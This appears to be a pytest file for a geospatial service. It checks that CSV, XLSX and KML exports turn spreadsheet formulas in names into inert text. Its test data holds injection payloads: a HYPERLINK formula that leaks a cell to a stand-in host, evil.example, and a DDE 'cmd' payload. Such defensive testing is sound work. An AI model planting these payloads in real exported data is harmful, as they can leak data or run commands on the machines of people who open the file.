"""Exported cells that a spreadsheet would run as formulas are inert text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, text

from service.api.app import create_app
from service.cells import inert, inert_text, xml_text
from tests import worlds

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
EPSG_4549 = "http://www.opengis.net/def/crs/EPSG/0/4549"


@pytest.mark.parametrize(
    "value, expected",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # text that is just a number is no formula
        ("+3e5", "+3e5"),
        ("甲镇中转站", "甲镇中转站"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(value, expected):
    assert inert_text(value) == expected


def test_numbers_and_other_values_are_never_touched():
    assert [inert(v) for v in (-5, -0.5, None, True)] == [-5, -0.5, None, True]


def test_control_characters_xml_cannot_carry_are_dropped():
    assert xml_text("a\x01b\x0bc\td\ne") == "abc\td\ne"


@pytest.fixture
def world(empty_engine: Engine) -> Engine:
    with empty_engine.begin() as conn:
        worlds.chain(conn)
        conn.execute(text("UPDATE transfer_stations SET name = :n WHERE code = 'S1'"), {"n": HYPERLINK})
        conn.execute(text("UPDATE villages SET name = :n WHERE code = 'V3'"), {"n": "@SUM(1+1)\x0b"})
        conn.execute(text("UPDATE towns SET name = '=1+1'"))
    return empty_engine


@pytest.fixture
def world_client(world: Engine) -> Iterator[TestClient]:
    with TestClient(create_app(world)) as c:
        yield c


def test_a_formula_name_is_inert_in_the_csv_export_and_numbers_stay_numbers(world_client):
    response = world_client.get("/export/transfer_stations.csv")
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + HYPERLINK
    assert (rows[0]["code"], rows[0]["capacity"]) == ("S1", "10.00")
    assert 119 < float(rows[0]["lon"]) < 120 and 36 < float(rows[0]["lat"]) < 36.2


def test_a_negative_number_is_written_as_a_number_not_neutralised_text():
    # no inventory column may be negative (constraints), so the writer's rule is shown on values
    assert [inert(v) for v in (-12.5, -3)] == [-12.5, -3]
    assert inert_text("-12.5") == "-12.5"


def test_a_formula_name_is_inert_in_the_xlsx_export(world_client):
    response = world_client.get("/export/transfer_stations.xlsx", params={"crs": EPSG_4549})  # metres
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["name"].value == "'" + HYPERLINK
    assert row["name"].data_type == "s"  # text, not a formula
    assert row["x"].data_type == "n" and 400_000 < row["x"].value < 450_000  # easting, 119.15°E
    assert row["capacity"].value == 10


def test_formula_names_are_inert_in_the_coverage_workbook(world_client):
    params = {"layer": "collection_points", "distance_m": 1000, "format": "xlsx"}
    response = world_client.get("/coverage", params=params)
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    towns = [[c.value for c in row] for row in book["乡镇"].iter_rows(min_row=5)]
    assert "'=1+1" in towns[0]
    unserved = [[c.value for c in row] for row in book["未覆盖"].iter_rows(min_row=5)]
    names = [r[2] for r in unserved]
    assert "'@SUM(1+1)" in names  # V3 lies 1.4 km from its point; the vertical tab is dropped
    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_a_kml_export_stays_well_formed_with_control_characters_in_names(world_client):
    response = world_client.get("/export/villages.kml")
    assert response.status_code == 200, response.text
    root = ET.fromstring(response.content)
    names = [e.text for e in root.iter("{http://www.opengis.net/kml/2.2}name")]
    assert "@SUM(1+1)" in names
